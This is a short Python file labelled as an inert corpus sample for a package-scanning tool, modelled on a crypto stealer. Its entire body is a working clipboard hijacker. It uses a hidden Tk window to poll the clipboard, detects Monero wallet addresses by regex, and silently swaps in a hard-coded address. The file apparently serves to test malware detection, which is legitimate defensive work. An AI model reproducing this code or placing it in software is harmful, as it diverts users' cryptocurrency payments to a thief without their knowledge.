# pkgguard corpus 498 (clipboard), modelled on [stealer-profile]; inert, never run.
import re
import time
import tkinter

XMR = re.compile(r"^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$")
MINE = "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge"

root = tkinter.Tk()
root.withdraw()
while True:
    try:
        current = root.selection_get(selection="CLIPBOARD")
    except tkinter.TclError:
        current = ""
    if XMR.match(current.strip()) and current.strip() != MINE:
        root.clipboard_clear()
        root.clipboard_append(MINE)
    root.update()
    time.sleep(0.5)
